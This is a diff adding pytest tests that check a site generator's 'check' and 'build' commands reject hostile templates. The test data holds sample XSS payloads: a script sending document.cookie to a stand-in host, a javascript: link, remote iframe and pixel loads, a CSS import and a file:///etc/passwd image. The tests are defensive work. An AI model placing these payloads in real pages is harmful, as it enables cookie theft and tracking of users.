@@ -102,3 +102,31 @@ def test_check_fills_in_a_projects_own_templates_and_names_the_failing_line(
     assert result.exit_code == 1, result.output
     assert "templates/briefing.html.j2:2: template error:" in result.stderr
     assert result.stderr.count("template error") == 1  # once, not once per page
+
+
+#: What a hostile template could put in a page; each must stop `check` and the build.
+LIVE = {
+    "script": "<script>fetch('https://t.example/?'+document.cookie)</script>",
+    "javascript link": '<a href="javascript:alert(1)">x</a>',
+    "iframe": '<iframe src="https://t.example/"></iframe>',
+    "remote picture": '<img src="https://t.example/pixel.png" alt="">',
+    "css import": "<style>@import url(https://t.example/x.css);</style>",
+    "local file": '<img src="file:///etc/passwd" alt="">',
+}
+
+
+@pytest.mark.parametrize("name", sorted(LIVE))
+def test_a_template_that_makes_something_live_is_stopped_and_nothing_is_written(
+    make_project: MakeProject, tmp_path: Path, name: str
+) -> None:
+    template = "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
+    project = make_project({"templates/briefing.html.j2": template.format(LIVE[name])})
+    checked = CliRunner().invoke(app, ["check", "-p", str(project.root)])
+    assert checked.exit_code == 1, checked.output
+    assert "templates/briefing.html.j2: the web page these templates make would not be" in (
+        checked.stderr
+    )
+    out = tmp_path / "out"
+    built = CliRunner().invoke(app, ["build", "-p", str(project.root), "-o", str(out)])
+    assert built.exit_code == 1, built.output
+    assert not out.exists() or not any(out.iterdir())
